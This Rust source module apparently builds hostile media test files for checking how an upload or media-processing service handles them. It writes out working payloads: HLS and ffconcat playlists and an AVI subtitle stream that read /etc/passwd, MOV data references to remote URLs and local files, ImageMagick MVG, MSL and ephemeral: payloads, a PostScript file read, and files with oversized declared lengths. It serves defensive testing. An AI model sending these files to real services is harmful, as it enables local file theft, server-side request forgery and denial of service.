//! Films and sounds that are something else, or that point somewhere else: B55.

use super::Bomb;
use super::Class::{Drawn, Tool, Unsupported};
use crate::common::build::riff;

/// A box of the ISO base media family.
fn boxed(kind: &[u8; 4], bodies: &[&[u8]]) -> Vec<u8> {
    let body = bodies.concat();
    let mut bytes = (body.len() as u32 + 8).to_be_bytes().to_vec();
    bytes.extend(kind);
    bytes.extend(body);
    bytes
}

/// A film whose one track says that its samples are at `address`.
fn referring(address: &str, samples: u32) -> Vec<u8> {
    let full = |kind: &[u8; 4], body: &[u8]| boxed(kind, &[&[0; 4], body]);
    let url = boxed(b"url ", &[&[0; 4], address.as_bytes(), &[0]]);
    let references = boxed(b"dref", &[&[0; 4], &[0, 0, 0, 1], &url]);
    let entry = [
        &[0u8; 6][..],
        &[0, 1],
        &[0; 16],
        &[0, 16, 0, 16],
        &[0, 72, 0, 0, 0, 72, 0, 0],
        &[0; 4],
        &[0, 1],
        &[0; 32],
        &[0, 24, 255, 255],
    ]
    .concat();
    let description = boxed(b"stsd", &[&[0; 4], &[0, 0, 0, 1], &boxed(b"raw ", &[&entry])]);
    let count = samples.to_be_bytes();
    let table = boxed(
        b"stbl",
        &[
            &description,
            &full(b"stts", &[&[0, 0, 0, 1][..], &count, &[0, 0, 0, 1]].concat()),
            &full(b"stsc", &[0, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 1]),
            &full(b"stsz", &[&[0, 0, 3, 0][..], &count].concat()),
            &full(b"stco", &[0, 0, 0, 1, 0, 0, 0, 8]),
        ],
    );
    let media = boxed(
        b"mdia",
        &[
            &full(b"mdhd", &[&[0; 8][..], &[0, 0, 0, 25, 0, 0, 0, 25, 0, 0, 0, 0]].concat()),
            &full(b"hdlr", &[&[0; 4][..], b"vide", &[0; 13]].concat()),
            &boxed(b"minf", &[&full(b"vmhd", &[0; 8]), &boxed(b"dinf", &[&references]), &table]),
        ],
    );
    let header = full(b"mvhd", &[&[0; 8][..], &[0, 0, 0, 25, 0, 0, 0, 25], &[0; 80]].concat());
    let track = full(b"tkhd", &[&[0; 8][..], &[0, 0, 0, 1], &[0; 60], &[0, 16, 0, 0, 0, 16, 0, 0]].concat());
    let film = boxed(b"moov", &[&header, &boxed(b"trak", &[&track, &media])]);
    [boxed(b"ftyp", &[b"isom\0\0\0\0isom"]), film].concat()
}

pub fn bombs(url: &str) -> Vec<Bomb> {
    let playlist = format!(
        "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{url}\n#EXTINF:1,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n"
    );
    let concat = format!("ffconcat version 1.0\nfile '{url}'\nfile '/etc/passwd'\n");
    let dash = format!(
        r#"<?xml version="1.0"?><MPD><Period><AdaptationSet><Representation><BaseURL>{url}</BaseURL></Representation></AdaptationSet></Period></MPD>"#
    );
    let description = format!(
        "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\na=control:{url}\nm=video 9 RTP/AVP 96\n"
    );
    // The subtitle stream of an AVI whose text is a playlist: the old way into a local file.
    let subtitle = [
        b"GAB2\0\x02\0\x02\0\0\0A\0\x04\0".as_slice(),
        &(playlist.len() as u32).to_le_bytes(),
        playlist.as_bytes(),
    ]
    .concat();
    let stream = [b"strh8\0\0\0txts".as_slice(), &[0; 52], b"strf\0\0\0\0"].concat();
    let list = [b"LIST".as_slice(), &(stream.len() as u32 + 4).to_le_bytes(), b"strl", &stream].concat();
    let header = [b"avih8\0\0\0".as_slice(), &[0; 24], &[1, 0, 0, 0], &[0; 28], &list].concat();
    let avi = riff(
        b"AVI ",
        &[
            (b"LIST", [b"hdrl".as_slice(), &header].concat()),
            (b"LIST", [b"movi00tx".as_slice(), &(subtitle.len() as u32).to_le_bytes(), &subtitle].concat()),
        ],
    );
    let wave = |declared: u32| {
        let mut format = vec![1, 0, 1, 0];
        format.extend(8000u32.to_le_bytes());
        format.extend(8000u32.to_le_bytes());
        format.extend([1, 0, 8, 0]);
        let mut wave = riff(b"WAVE", &[(b"fmt ", format), (b"data", vec![128; 8000])]);
        let at = wave.len() - 8004;
        wave[at..at + 4].copy_from_slice(&declared.to_le_bytes());
        wave
    };
    vec![
        ("playlist.mp4", playlist.clone().into_bytes(), Unsupported),
        ("playlist.avi", playlist.clone().into_bytes(), Unsupported),
        ("concat.mp4", concat.into_bytes(), Drawn),
        ("dash.mp4", dash.into_bytes(), Unsupported),
        ("session.mp4", description.into_bytes(), Drawn),
        ("playlist-after-mark.mp3", [b"ID3\x04\0\0\0\0\0\0", playlist.as_bytes()].concat(), Tool),
        ("subtitle.avi", avi, Tool),
        ("reference-http.mov", referring(url, 9), Tool),
        ("reference-file.mov", referring("file:///etc/passwd", 9), Tool),
        ("samples.mov", referring("file:///dev/zero", u32::MAX), Tool),
        (
            "box.mp4",
            [
                boxed(b"ftyp", &[b"isom\0\0\0\0isom"]),
                b"\0\0\0\x01moov\x7f\xff\xff\xff\xff\xff\xff\xff".to_vec(),
            ]
            .concat(),
            Tool,
        ),
        ("matroska.mkv", b"\x1A\x45\xDF\xA3\x01\x7f\xff\xff\xff\xff\xff\xff".to_vec(), Tool),
        ("declared.wav", wave(u32::MAX), Drawn),
        (
            "picture.mvg.jpg",
            format!("push graphic-context\nimage over 0,0 0,0 'url({url})'\npop graphic-context\n")
                .into_bytes(),
            Drawn,
        ),
        ("picture.msl.png", format!(r#"<image><read filename="{url}"/></image>"#).into_bytes(), Unsupported),
        ("ephemeral.jpg", b"ephemeral:/etc/passwd".to_vec(), Drawn),
        ("postscript.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n".to_vec(), Unsupported),
    ]
}
